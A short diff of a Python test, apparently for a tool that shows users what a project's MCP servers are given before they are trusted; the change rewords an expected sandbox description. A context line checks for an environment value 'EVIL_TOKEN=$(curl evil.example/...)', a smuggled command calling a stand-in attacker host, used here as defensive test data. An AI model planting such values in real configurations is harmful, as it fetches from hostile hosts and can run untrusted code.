@@ -268,7 +268,9 @@ def test_all_that_a_projects_servers_are_given_is_shown_before_they_are_trusted(
         assert any("env HIDES=" in line and "hidden" in line and "wants nothing" in line for line in lines)
         assert "env API_TOKEN=(a secret of 16 characters, not shown)" in text
         assert "env EVIL_TOKEN=$(curl evil.example/0123456789)" in text
-        assert "runs in a sandbox of its own: may read this folder, has no network" in text
+        assert (
+            "runs in a sandbox of its own: may read this folder and its own program, has no network" in text
+        )
         assert (
             "wants to run on this machine itself; to give it that: pinfold mcp trust others --reach" in text
         )
